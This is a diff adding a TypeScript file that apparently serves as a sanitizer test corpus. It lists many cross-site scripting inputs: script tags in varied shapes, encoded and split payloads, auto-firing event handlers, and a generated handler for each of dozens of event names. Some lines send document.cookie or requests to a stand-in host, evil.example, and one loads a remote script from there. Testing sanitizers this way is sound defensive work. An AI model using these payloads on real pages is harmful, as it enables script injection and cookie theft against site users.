@@ -1,0 +1,117 @@
+// Every input here tries to call `alert`. They are written by us; the shapes are as old as the web.
+
+const events = (
+  "abort animationend animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforetoggle blur " +
+  "cancel canplay change click close contextmenu copy cut dblclick drag dragend dragenter drop durationchange error focus " +
+  "focusin formdata input invalid keydown keypress keyup load loadstart mousedown mouseenter mousemove mouseover mouseup " +
+  "paste pointerdown pointerenter pointermove pointerover pointerrawupdate scroll scrollend search securitypolicyviolation " +
+  "select selectionchange selectstart submit suspend toggle touchstart transitionend transitionrun volumechange wheel"
+).split(" ");
+
+/** Script elements, whole and in pieces. */
+const elements: readonly string[] = [
+  "<script>alert(1)</script>",
+  "<SCRIPT>alert(1)</SCRIPT>",
+  "<script\n>alert(1)</script\n>",
+  "<script/x>alert(1)</script>",
+  "<script>/*</b>*/alert(1)</script >",
+  '<script type="module">alert(1)</script>',
+  '<script type="text/javascript" language="javascript">alert(1)</script>',
+  "<script>alert(1)",
+  "<script>alert(1)<!--",
+  "<scr<script>ipt>alert(1)</script>",
+  "<<script>alert(1)//<</script>",
+  "<b/><script>alert(1)</script>",
+  '<script src="//evil.example/x.js"></script>',
+  "<script src=data:text/javascript,alert(1)></script>",
+  '<script src="data:text/javascript;base64,YWxlcnQoMSk="></script>',
+  "<script src=/course/evil.js></script>",
+  '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>',
+  '<script type="importmap">{"imports":{"x":"data:text/javascript,alert(1)"}}</script><script type="module">import "x"</script>',
+  "<script nonce>alert(1)</script>",
+  "<p><script>alert(1)</script></p>",
+  "<div markdown=1><script>alert(1)</script></div>",
+  "<table><tr><script>alert(1)</script></tr></table>",
+  "<select><script>alert(1)</script></select>",
+  "<textarea></textarea><script>alert(1)</script>",
+  "</section></div></body></html><script>alert(1)</script>",
+  "<body><head><script>alert(1)</script></head></body>",
+  "<!doctype html><html><head><script>alert(1)</script></head></html>",
+  "\u2028<script>alert(1)</script>\u2029",
+  "\ufeff<script>alert(1)</script>",
+  "\0<script>\0alert(1)</script>",
+  "<script>\\u0061lert(1)</script>",
+  "<script>top['al'+'ert'](1)</script>",
+  "<script>eval('alert(1)')</script>",
+  "<script>setTimeout('alert(1)')</script>",
+  "<script>import('data:text/javascript,alert(1)')</script>",
+  "<script>document.write('<img src=x onerror=alert(1)>')</script>",
+  "<script>new Image().src='//evil.example/?'+document.cookie;alert(1)</script>",
+  "<script>fetch('//evil.example/');alert(1)</script>",
+  "<script>navigator.sendBeacon('https://evil.example/');alert(1)</script>",
+];
+
+/** Handlers where no click is needed, and quoting that confuses. */
+const handlers: readonly string[] = [
+  "<img src=x onerror=alert(1)>",
+  '<img src="x" onerror="alert(1)">',
+  "<img src='x' onerror='alert(1)'>",
+  "<img src=x onerror=`alert(1)`>",
+  "<img/src=x/onerror=alert(1)>",
+  "<IMG SRC=x OnErRoR=alert(1)>",
+  "<img src=x onerror\n=\nalert(1)>",
+  "<img src=x onerror=&#97;lert&lpar;1&rpar;>",
+  "<img src=x onerror=&#x61;&#x6c;ert(1)>",
+  '<img """><script>alert(1)</script>">',
+  '<img src="x`" `onerror=alert(1)>',
+  '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
+  '<img src=x title=">" onerror=alert(1)>',
+  "<img src=x srcset='y 1x, z 2x' onerror=alert(1)>",
+  "<picture><source srcset=x><img src=x onerror=alert(1)></picture>",
+  "<image src=x onerror=alert(1)>",
+  "<input type=image src=x onerror=alert(1)>",
+  "<input autofocus onfocus=alert(1)>",
+  "<select autofocus onfocus=alert(1)></select>",
+  "<textarea autofocus onfocus=alert(1)></textarea>",
+  "<button autofocus onfocus=alert(1)>x</button>",
+  "<a autofocus tabindex=1 onfocus=alert(1)>x</a>",
+  "<div contenteditable autofocus onfocus=alert(1)>x</div>",
+  "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
+  "<dialog open onclose=alert(1)>x</dialog>",
+  "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>y</button>",
+  "<video src=x onerror=alert(1)></video>",
+  "<video><source src=x onerror=alert(1)></video>",
+  "<video poster=x onloadstart=alert(1) src=x></video>",
+  "<audio src=x onerror=alert(1)></audio>",
+  "<audio src=x onloadstart=alert(1)></audio>",
+  "<track src=x onerror=alert(1)>",
+  "<body onload=alert(1)>",
+  "<body onpageshow=alert(1)>",
+  "<body onhashchange=alert(1) onresize=alert(1) onscroll=alert(1)>",
+  "<marquee onstart=alert(1) loop=1>x</marquee>",
+  "<marquee onfinish=alert(1) loop=1 scrollamount=999>x</marquee>",
+  "<link rel=stylesheet href=x onerror=alert(1)>",
+  "<link rel=stylesheet href=data:, onload=alert(1)>",
+  "<style onload=alert(1)></style>",
+  "<style>@keyframes x{}</style><div style='animation-name:x' onanimationstart=alert(1)>x</div>",
+  "<iframe src=x onload=alert(1)></iframe>",
+  "<object data=x onerror=alert(1)></object>",
+  "<embed src=x onload=alert(1)>",
+  "<p onclick=alert(1) title='x'>x</p>",
+  "<p\u00a0onclick=alert(1)>x</p>",
+  "<p/onclick=alert(1)//>x</p>",
+  "<p onclick=alert(1) onclick=x>x</p>",
+  "<custom-element onclick=alert(1) is=x>x</custom-element>",
+  "<h2 onclick=alert(1) onmouseover=alert(1)>x</h2>",
+  "<td onclick=alert(1)>x</td>",
+  "<li onclick=alert(1)>x</li>",
+  "<x onclick=alert(1) tabindex=1 onfocus=alert(1) autofocus>x</x>",
+  "' onmouseover='alert(1)",
+  '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
+  "x onerror=alert(1) ",
+];
+
+/** Each event on an element that a course may well use. */
+const everyEvent = events.map((event) => `<div on${event}="alert(1)" tabindex="0">x</div>`);
+
+export const scriptInputs: readonly string[] = [...elements, ...handlers, ...everyEvent];
